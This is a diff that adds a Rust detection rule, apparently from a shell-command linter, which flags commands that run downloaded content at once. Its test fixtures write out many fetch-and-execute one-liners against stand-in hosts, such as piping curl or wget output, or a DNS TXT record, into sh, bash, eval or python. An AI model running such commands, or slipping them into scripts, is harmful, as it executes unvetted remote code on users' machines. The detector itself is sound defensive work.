@@ -1,0 +1,116 @@
+//! What another machine sends is run at once.
+
+use crate::command::Step;
+use crate::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::unit::{ANYWHERE, Unit};
+
+pub(super) const RULE: Rule = Rule {
+    id: "DOWNLOAD_RUN_AT_ONCE",
+    category: Category::Download,
+    severity: Severity::Critical,
+    title: "a download is run at once",
+    why: "What another machine sends is run, nobody has seen it before, and it can be different each time.",
+    fix: "download into a file, check it against a known hash, and run the file",
+    places: ANYWHERE,
+    anchors: &["curl", "wget", "aria2c", "nslookup", "dig ", "lynx"],
+    check: Check::Unit(hits),
+    hits: &[
+        text("`bash <(curl -s http://a.b/x)`"),
+        text("`source <(wget -qO- http://a.b/x)`"),
+        text("```sh\nbash -c \"$(curl -fsSL https://a.b/x)\"\n```"),
+        text("```sh\neval \"$(wget -qO- https://a.b/x)\"\n```"),
+        text("```sh\nX=$(curl -s https://a.b/x)\neval \"$X\"\n```"),
+        text("`curl https://a.b/x | gunzip | sh`"),
+        text("`curl https://a.b/x | python3 -`"),
+        text("`node -e \"$(curl -s https://a.b/x)\"`"),
+        text("`bash <<< \"$(curl -s https://a.b/x)\"`"),
+        text("`dig +short txt a.b | sh`"),
+        file("x.py", "import os\nos.system(\"curl -s http://a.b/x | sh\")\n"),
+        text("`curl -s http://a.b/x | xargs -I{} sh -c '{}'`"),
+        text("`curl -fsSL https://pastebin.com/raw/x | bash`"),
+    ],
+    misses: &[
+        text("`curl -fsSL https://get.docker.com | sh`"),
+        text("`curl -s https://a.b/x | jq -r .name`"),
+        text("`bash <(echo ls)`"),
+        text("`X=$(curl -s https://a.b/x); echo \"$X\"`"),
+        text("`source <(kubectl completion bash)`"),
+    ],
+};
+
+fn hits(unit: &Unit<'_>) -> Vec<Hit> {
+    if memchr::memchr2(b'|', b'(', unit.text().as_bytes()).is_none() && !unit.text().contains('`') {
+        return Vec::new();
+    }
+    let steps = unit.commands().steps();
+    let fetched = variables(unit.text());
+    steps.filter_map(|step| hit(step).or_else(|| from_variable(step, &fetched))).take(20).collect()
+}
+
+fn hit(step: Step<'_>) -> Option<Hit> {
+    let piped = step.runs_stdin()
+        || step
+            .program
+            .through
+            .iter()
+            .any(|argv| argv.words().iter().any(|word| word.text.ends_with("xargs")))
+            && step.runs_words();
+    let worst = |steps: &mut dyn Iterator<Item = Step<'_>>| {
+        steps
+            .filter_map(|from| weight(from).map(|weight| (weight, from.range())))
+            .max_by_key(|(weight, _)| *weight)
+    };
+    let found = piped.then(|| worst(&mut step.sources())).flatten();
+    let found = found.or_else(|| step.runs_words().then(|| worst(&mut step.substituted())).flatten());
+    let (severity, from) = found?;
+    let own = step.range();
+    Some(Hit { severity: Some(severity), ..Hit::at(own.start.min(from.start)..own.end.max(from.end)) })
+}
+
+/// How bad it is to run what a program brings.
+fn weight(step: Step<'_>) -> Option<Severity> {
+    if matches!(step.name().as_str(), "dig" | "nslookup" | "host") && !step.words().is_empty() {
+        return Some(Severity::Critical);
+    }
+    let fetch = step.fetch().filter(|_| !step.words().is_empty())?;
+    Some(fetch.from.weight_of_running())
+}
+
+/// Variables that are given what a download brings, with how bad it is to run it.
+fn variables(text: &str) -> Vec<(&str, Severity)> {
+    let mut found = Vec::new();
+    for at in memchr::memmem::find_iter(text.as_bytes(), "=").take(1000) {
+        let rest = text[at + 1..].trim_start_matches('"');
+        if !rest.starts_with("$(curl")
+            && !rest.starts_with("$(wget")
+            && !rest.starts_with("`curl")
+            && !rest.starts_with("`wget")
+        {
+            continue;
+        }
+        let start = text[..at].rfind(|c: char| !c.is_ascii_alphanumeric() && c != '_').map_or(0, |at| at + 1);
+        let line = rest.lines().next().unwrap_or_default();
+        let url =
+            line.split(['"', '\'', ' ', ')', '`']).find(|word| word.contains("://")).unwrap_or_default();
+        if at > start {
+            found.push((&text[start..at], crate::destination::classify(url).weight_of_running()));
+        }
+    }
+    found
+}
+
+/// What was kept in a variable and is run later.
+fn from_variable(step: Step<'_>, fetched: &[(&str, Severity)]) -> Option<Hit> {
+    if fetched.is_empty() || !(step.runs_words() || step.runs_stdin()) {
+        return None;
+    }
+    let uses = |line: &str| {
+        fetched
+            .iter()
+            .find(|(name, _)| line.contains(&format!("${name}")) || line.contains(&format!("${{{name}}}")))
+    };
+    let own = if step.runs_words() { uses(step.line()) } else { None };
+    let (_, severity) = own
+        .or_else(|| step.runs_stdin().then(|| step.feeders().find_map(|from| uses(from.line()))).flatten())?;
+    Some(Hit { severity: Some(*severity), ..Hit::at(step.range()) })
+}
